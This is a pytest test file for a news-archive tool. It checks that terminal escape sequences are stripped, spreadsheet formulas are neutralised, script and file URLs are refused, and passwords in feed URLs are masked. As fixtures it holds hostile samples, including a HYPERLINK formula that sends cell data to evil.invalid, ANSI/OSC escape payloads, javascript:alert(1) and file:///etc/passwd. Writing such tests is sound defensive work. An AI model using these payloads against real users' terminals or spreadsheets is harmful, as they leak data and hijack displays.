"""Output that attacks its reader, and passwords in URLs: each edge that writes cleans
what strangers wrote, in one place each — terminal_safe for the terminal, csv_cell for spreadsheets, web_url for
links and images in feeds and pages, redact for every URL shown or stored."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess
import sys
from datetime import datetime, timezone
from pathlib import Path

import feedparser
import pytest
from click.testing import CliRunner
from starlette.testclient import TestClient

from crosswire.cli import main
from crosswire.cli.output import json_text, terminal_safe
from crosswire.core.article import Article
from crosswire.core.sources import Source
from crosswire.exports.data import csv_cell
from crosswire.identity.urls import has_credentials, redact, redact_text, web_url
from crosswire.storage.articles import store_article
from crosswire.storage.db import open_db
from crosswire.storage.feeds import ensure_feed, record_feed_failure, sync_source
from crosswire.storage.runs import record_error, start_run
from crosswire.web import create_app
from testweb import outlets_hostile as hostile
from testweb.outlets_hostile import HostileWeb

SECRET = "s3cret-Pw"
ESC_TITLE = "\x1b]0;owned\x07Ceasefire \x1b[31mholds\x1b[0m in the north\x9b2J"
FORMULA = '=HYPERLINK("http://evil.invalid/?x="&A1,"click")'


@pytest.mark.parametrize("text, shown", [
    ("\x1b]0;window title\x07Headline", "Headline"),              # OSC ended by BEL
    ("\x1b]8;;http://evil.invalid\x1b\\link\x1b]8;;\x1b\\", "link"),  # OSC 8 hyperlink ended by ST
    ("\x1b[2J\x1b[1;31mred\x1b[0m", "red"),                         # CSI: clear screen, colours
    ("a\x9b31mb", "ab"),                                           # 8-bit CSI
    ("over\rwrite\x07\x08\x7f", "overwrite"),                      # CR, BEL, BS, DEL
    ("tab\tand\nnewline", "tab\tand\nnewline"),                    # kept
    ("Дейр-эз-Зор · دير الزور", "Дейр-эз-Зор · دير الزور"),       # text in every script kept
    ("dangling \x1b]0;never closed", "dangling "),
])
def test_terminal_safe(text: str, shown: str) -> None:
    assert shown == terminal_safe(text)


def test_json_output_escapes_c1_controls() -> None:
    assert '{\n  "t": "a\\u009bb \\u001b"\n}' == json_text({"t": "a\x9bb \x1b"})


@pytest.mark.parametrize("value, cell", [
    ("=1+1", "'=1+1"), ("+7 dead", "'+7 dead"), ("-2 wounded", "'-2 wounded"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Ceasefire holds", "Ceasefire holds"), ("a=b", "a=b"), (42, 42),
    (None, None),
])
def test_csv_cells_are_never_formulas(value: object, cell: object) -> None:
    assert cell == csv_cell(value)


@pytest.mark.parametrize("url, masked, credentials, link", [
    ("https://reader:pw@news.example/feed", "https://***@news.example/feed", True, "https://***@news.example/feed"),
    ("https://token@news.example/feed", "https://***@news.example/feed", True, "https://***@news.example/feed"),
    ("http://a@b:c@news.example/x@y", "http://***@news.example/x@y", True, "http://***@news.example/x@y"),
    ("https://news.example/a?mail=a@b.example", "https://news.example/a?mail=a@b.example", False,
     "https://news.example/a?mail=a@b.example"),
    ("javascript:alert(1)", "javascript:alert(1)", False, None),
    ("data:image/png;base64,AAAA", "data:image/png;base64,AAAA", False, None),
    ("file:///etc/passwd", "file:///etc/passwd", False, None),
])
def test_redact_and_web_url(url: str, masked: str, credentials: bool, link: str | None) -> None:
    assert (masked, credentials, link) == (redact(url), has_credentials(url), web_url(url))


def test_redact_text_masks_credentials_even_outside_a_url() -> None:
    url = "http://reader:pw%40x@127.0.0.1:8000/p.html"
    assert "ValueError: invalid hostname: ***@127.0.0.1 (fetching http://***@127.0.0.1:8000/p.html)" == redact_text(
        "ValueError: invalid hostname: reader:pw%40x@127.0.0.1 (fetching " + url + ")", url)


# --- refused where a URL comes in --------------------------------------------------------------------------


def run(*args: str, input: str | None = None) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), input=input)
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    return result.exit_code, result.stdout, result.stderr


REFUSED = ("carries a user name or password; crosswire never sends or stores credentials, so remove them (a feed "
           "that needs a login cannot be followed)")


def test_the_sources_file_refuses_credentials_without_showing_them(tmp_path: Path) -> None:
    path = tmp_path / "sources.toml"
    path.write_text(f'[[source]]\nname = "private"\nhomepage = "https://news.example/"\n'
                    f'feeds = ["https://reader:{SECRET}@news.example/feed.xml"]\n')
    for command in (["sources", "check"], ["sources", "list"], ["opml", "export"]):
        assert (1, "", f'Error: {path}: source "private": field "feeds": item 1: "https://***@news.example/feed.xml" '
                       f"{REFUSED}\n") == run(*command, "--sources", str(path))
    code, _, err = run("crawl", "--sources", str(path), "--db", str(tmp_path / "war.db"))
    assert (1, False, []) == (code, SECRET in err, sorted(p.name for p in tmp_path.iterdir() if p.name != "sources.toml"))


def test_opml_import_and_sources_add_refuse_credentials(tmp_path: Path) -> None:
    opml = tmp_path / "reader.opml"
    opml.write_text('<?xml version="1.0"?><opml version="2.0"><body><outline text="Private" type="rss" '
                    f'xmlUrl="https://reader:{SECRET}@news.example/feed.xml" htmlUrl="https://news.example/"/>'
                    "</body></opml>")
    assert (1, "", f"Error: {opml}: https://***@news.example/feed.xml {REFUSED}; nothing was imported\n") == run(
        "opml", "import", str(opml))
    assert (1, "", f"Error: https://***@news.example/ {REFUSED}\n") == run(
        "sources", "add", f"https://reader:{SECRET}@news.example/")


# --- an archive holding what strangers wrote ---------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """An archive with escape sequences and a formula in titles and bylines, script images, and — as an archive
    written before credentials were refused — a feed URL, an error row and a failure reason carrying a password."""
    path = tmp_path_factory.mktemp("sanitise") / "war.db"
    db = open_db(path)
    sync_source(db, Source(name="poison", homepage="https://poison.example/", title="Poison\x1b[8m Pen"))
    feed = ensure_feed(db, f"https://reader:{SECRET}@poison.example/feed.xml", "poison")
    when = datetime(2026, 3, 2, 9, 0, tzinfo=timezone.utc)
    body = "The ceasefire held through the night in the northern districts, officials said. " * 5
    store_article(db, Article(url="https://poison.example/1", title=ESC_TITLE, authors=["\x1b]0;pwned\x07Eve"],
                              text=body, published=when, image="javascript:alert(1)"), source="poison",
                  feed_id=feed)
    store_article(db, Article(url="https://poison.example/2", title=FORMULA, authors=["@SUM(1+1)"],
                              text=body.replace("night", "day"), published=when,
                              image="data:image/svg+xml;base64,PHN2Zz4="), source="poison")
    db.execute(f"update feeds set url = 'https://reader:{SECRET}@poison.example/feed.xml' where id = ?", [feed])
    record_feed_failure(db, feed, reason=f"HTTP 401 fetching https://reader:{SECRET}@poison.example/feed.xml")
    record_error(db, run_id=start_run(db, "crawl"), url=f"https://reader:{SECRET}@poison.example/3", kind="http",
                 reason=f"invalid hostname: reader:{SECRET}@poison.example", source="poison")
    db.close()
    return path


READS = [["search", "ceasefire"], ["search", "ceasefire", "--json"], ["show", "1"], ["show", "1", "--json"],
         ["history", "1"], ["duplicates"], ["stories"], ["status"], ["status", "--json"], ["status", "--errors"],
         ["status", "--check"], ["export"], ["export", "--format", "csv"], ["export", "--format", "atom"],
         ["export", "--format", "rss"], ["export", "--format", "jsonfeed"], ["attention", "ceasefire"]]


@pytest.mark.parametrize("command", READS, ids=" ".join)
def test_no_escape_sequence_or_password_reaches_the_terminal(hostile_db: Path, command: list[str]) -> None:
    code, out, err = run(*command, "--db", str(hostile_db))
    assert code in (0, 3), err       # status --check: 3, the feed is failing
    assert [] == [c for c in "\x1b\x07\x9b" if c in out + err]
    assert SECRET not in out + err


def test_status_lists_the_error_with_its_password_masked(hostile_db: Path) -> None:
    code, out, _ = run("status", "--errors", "--db", str(hostile_db))
    assert (0, "poison  page  http        invalid hostname: ***@poison.example  https://***@poison.example/3") == (
        code, out.splitlines()[0][18:])


def test_the_stored_error_rows_and_feed_state_hold_no_password(hostile_db: Path) -> None:
    conn = sqlite3.connect(hostile_db)
    rows = conn.execute("select url, reason from errors").fetchall()
    last_error = conn.execute("select last_error from feeds").fetchall()
    assert ([("https://***@poison.example/3", "invalid hostname: ***@poison.example")],
            [("HTTP 401 fetching https://***@poison.example/feed.xml",)]) == (rows, last_error)


def test_csv_export_neutralises_formulas(hostile_db: Path) -> None:
    code, out, _ = run("export", "--format", "csv", "--db", str(hostile_db))
    rows = list(csv.DictReader(io.StringIO(out)))
    assert (0, "'" + FORMULA, "'@SUM(1+1)") == (code, rows[1]["title"], rows[1]["authors"])
    assert out.splitlines()[0].startswith('"id","url","source"')     # every cell quoted


def test_feeds_carry_only_http_links_and_images(hostile_db: Path) -> None:
    items = json.loads(run("export", "--format", "jsonfeed", "--db", str(hostile_db))[1])["items"]
    assert [("https://poison.example/2", None), ("https://poison.example/1", None)] == [
        (item.get("url"), item.get("image")) for item in items]
    for fmt in ("atom", "rss"):
        parsed = feedparser.parse(run("export", "--format", fmt, "--db", str(hostile_db))[1])
        assert ["https://poison.example/2", "https://poison.example/1"] == [e.link for e in parsed.entries]


def test_static_tree_opml_and_web_show_no_password(hostile_db: Path, tmp_path: Path) -> None:
    assert 0 == run("export", "--static", str(tmp_path / "feeds"), "--db", str(hostile_db))[0]
    written = "".join(p.read_text() for p in (tmp_path / "feeds").rglob("*") if p.is_file())
    assert (SECRET in written, "javascript:" in written) == (False, False)
    with TestClient(create_app(hostile_db)) as client:
        pages = [client.get(url).text for url in ("/sources", "/article/1", "/article/2", "/search?q=ceasefire",
                                                  "/feeds/source/poison.json")]
    assert [False] * 5 == [SECRET in page for page in pages]
    assert "https://***@poison.example/feed.xml" in pages[0]


# --- the Poison Pen, crawled ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory: pytest.TempPathFactory) -> dict:
    """One crawl of the Poison Pen (a formula headline, escapes in bylines, script images, a link with a
    password) and, with the web still up, its sources file with the password in the feed URL itself."""
    tmp = tmp_path_factory.mktemp("poison")
    db, sources, refused = tmp / "news.db", tmp / "sources.toml", tmp / "refused.toml"
    with HostileWeb() as web:
        sources.write_text(web.poison_sources_toml())
        refused.write_text(web.poison_sources_toml(with_password=True))
        crawl = subprocess.run([sys.executable, "-m", "crosswire", "crawl", "--db", str(db), "--sources",
                                str(sources), "-s", "DOWNLOAD_DELAY=0", "-s", "CROSSWIRE_EXTRACT_WORKERS=0",
                                "-s", "RETRY_TIMES=0", "-s", "DOWNLOAD_TIMEOUT=10"],
                               capture_output=True, text=True, timeout=300)
        check = CliRunner().invoke(main, ["sources", "check", "--sources", str(refused)])
        base = web.base_url("poison")
    return {"db": db, "crawl": crawl, "check": check, "base": base, "tmp": tmp}


def test_the_poison_pen_crawl_stores_no_password(poisoned: dict) -> None:
    assert "Traceback" not in poisoned["crawl"].stderr
    conn = sqlite3.connect(poisoned["db"])
    dump = "\n".join(conn.iterdump())
    assert (False, False) == (hostile.PASSWORD in dump, "reader:" in dump)
    titles = [title for (title,) in conn.execute("select title from articles order by id")]
    assert hostile.FORMULA_TITLE in titles


def test_a_feed_url_with_a_password_is_refused_and_never_shown(poisoned: dict) -> None:
    check = poisoned["check"]
    assert (1, False) == (check.exit_code, hostile.PASSWORD in check.output)
    assert f'"http://***@{poisoned["base"][len("http://"):]}/feed.json" {REFUSED}' in check.output


def test_the_poison_pen_reaches_no_reader_unsanitised(poisoned: dict) -> None:
    db = str(poisoned["db"])
    outputs = {fmt: run("export", "--format", fmt, "--db", db)[1] for fmt in ("csv", "jsonfeed", "atom", "rss")}
    outputs["status"] = run("status", "--db", db)[1] + run("status", "--errors", "--db", db)[1]
    outputs["search"] = run("search", "figures", "--db", db)[1]
    for name, text in outputs.items():
        assert (name, False, False) == (name, hostile.PASSWORD in text, "\x1b" in text)
    formula_row = next(r for r in csv.DictReader(io.StringIO(outputs["csv"])) if "HYPERLINK" in r["title"])
    assert "'" + hostile.FORMULA_TITLE == formula_row["title"]
    images = [item.get("image") for item in json.loads(outputs["jsonfeed"])["items"]]
    assert [] == [image for image in images if image is not None and not image.startswith("http")]


def test_the_cli_prints_only_through_its_output_module() -> None:
    """One place cleans what the terminal gets: no command calls click.echo, click.secho or print itself."""
    import ast

    folder = Path(__file__).resolve().parents[1] / "crosswire" / "cli"
    direct = []
    for path in sorted(folder.glob("*.py")):
        if path.name == "output.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                name = ast.unparse(node.func)
                if name in ("click.echo", "click.secho", "print", "sys.stdout.write", "sys.stderr.write"):
                    direct.append(f"{path.name}:{node.lineno} {name}")
    assert [] == direct


def test_an_article_fetched_through_a_link_with_a_password_is_stored_without_it() -> None:
    db = open_db(memory=True)
    store_article(db, Article(url=f"http://reader:{SECRET}@news.example/a", title="t", text="Body of the article.",
                              image=f"http://reader:{SECRET}@img.example/i.png"), source=None,
                  entry_url=f"https://reader:{SECRET}@news.example/a?utm_source=rss")
    assert ([("http://news.example/a", "http://***@news.example/a", "http://***@img.example/i.png")],
            False) == (db.execute("select url, fetched_url, image from articles").fetchall(),
                       SECRET in "\n".join(db.conn.iterdump()))
